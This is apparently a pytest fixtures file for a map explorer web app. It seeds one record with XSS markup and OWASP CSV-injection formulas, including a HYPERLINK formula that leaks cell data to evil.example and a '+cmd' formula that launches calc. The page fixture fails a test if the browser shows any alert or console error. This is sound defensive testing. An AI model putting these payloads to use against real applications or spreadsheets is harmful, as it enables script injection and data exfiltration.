"""Fixtures for the explorer: one real built map with an HTML payload datum, a live server on a
free loopback port, and Debian's Chromium driven by playwright."""

from __future__ import annotations

import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from atlas_assets_tests.conftest import store_at

CHROMIUM = Path("/usr/bin/chromium")
PAYLOAD = "<img src=x onerror=alert(1)><script>alert(2)</script> & \"quotes\" 'too'"
PAYLOAD_ID = "xss-payload"
# Spreadsheet formulas (OWASP CSV injection) in the payload datum's other text columns: the title
# stays the HTML payload, so the embedding, and with it the map, is unchanged.
FORMULAS = {
    "authors": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "journal_ref": "+cmd|' /C calc'!A0",
    "doi": "-2+3",
    "categories": "@SUM(1+1)",
    "v1_created": "\t=1+1",
    "update_date": "\r=1+1",
}
DATASET = "explorer-test"


@dataclass
class ExplorerMap:
    """The test store and its one map: ``ids`` in map order, the payload datum's index."""

    root: Path
    dataset: str
    ids: list[str]
    payload_index: int


@pytest.fixture(scope="package")
def explorer_map(tmp_path_factory: pytest.TempPathFactory, arxiv: pd.DataFrame):
    """A real map (through Dagster) of 300 arXiv titles plus one HTML/script payload datum.

    Titles, not abstracts: short texts embed ~10x faster, and 300 rows give the topic model
    two levels, so labels can change with zoom.

    ATLAS_HOME points at its store for the whole package, since the server reads through it.
    """
    from atlas_assets import AtlasDataset

    frame = arxiv.head(300).reset_index(drop=True)
    payload = {column: None for column in frame.columns}
    payload.update(arxiv_id=PAYLOAD_ID, title=PAYLOAD, abstract=PAYLOAD, **FORMULAS)
    frame = pd.concat([frame, pd.DataFrame([payload])], ignore_index=True)
    for column in frame.columns:  # all-None cells would otherwise make an object column of NaN
        if frame[column].dtype == object:
            frame[column] = frame[column].astype("string")
    with store_at(tmp_path_factory.mktemp("explorer")) as root:
        ds = AtlasDataset(DATASET, unique_id_field="arxiv_id")
        ds.add_data(frame)
        atlas_map = ds.create_index(indexed_field="title")
        # What the zoom test relies on: topics at two depths, and depth 2 splits some topic.
        topics = atlas_map.topics.df
        assert atlas_map.topics.depth >= 2
        assert set(topics["topic_depth_2"]) != set(topics["topic_depth_1"])
        ids = atlas_map.data.tb.column(0).to_pylist()
        yield ExplorerMap(root, DATASET, ids, ids.index(PAYLOAD_ID))


@contextmanager
def running_server(
    app, host: str = "127.0.0.1", send_buffer: int | None = None, **limits: float
) -> Iterator[socket.socket]:
    """``app`` served in a thread by the uvicorn server ``atlas serve`` runs (same protocol,
    limits and timeouts; ``limits`` shortens them), on a free port of ``host``.

    ``send_buffer`` fixes the kernel's send buffer of accepted connections (they inherit it),
    as a slow network would; loopback's autotuning otherwise buffers megabytes."""
    from atlas_assets.explorer.server import bind_socket, make_server

    sock = bind_socket(host, 0)
    if send_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, send_buffer)
    server = make_server(app, **limits)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the explorer server did not start")
        time.sleep(0.05)
    try:
        yield sock
    finally:
        server.should_exit = True
        thread.join(10)
        sock.close()


@pytest.fixture(scope="package")
def server_url(explorer_map: ExplorerMap) -> Iterator[str]:
    """The explorer served by uvicorn in a thread on a free loopback port."""
    from atlas_assets.explorer.server import create_app, url_for

    with running_server(create_app(explorer_map.dataset)) as sock:
        yield url_for(sock)


@pytest.fixture(scope="package")
def browser():
    """Debian's Chromium under playwright; skipped only where it truly cannot be had."""
    if not CHROMIUM.exists() and shutil.which("chromium") is None:
        pytest.skip(
            "Debian's chromium is not installed (/usr/bin/chromium); `make setup` installs it "
            "with apt-get as root"
        )
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright is not installed: pip install -e '.[test]'"
    )
    with sync_api.sync_playwright() as p:
        chromium = p.chromium.launch(
            executable_path=str(CHROMIUM if CHROMIUM.exists() else shutil.which("chromium")),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser, server_url: str):
    """A fresh page on the map, loaded and drawn; fails the test on any console error or alert."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, accept_downloads=True)
    tab = context.new_page()
    problems: list[str] = []
    tab.on(
        "console",
        lambda m: problems.append(f"console {m.type}: {m.text}") if m.type == "error" else None,
    )
    tab.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    tab.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    tab.goto(server_url)
    tab.wait_for_selector("body[data-ready='1']", timeout=30_000)
    yield tab
    context.close()
    assert not problems, problems
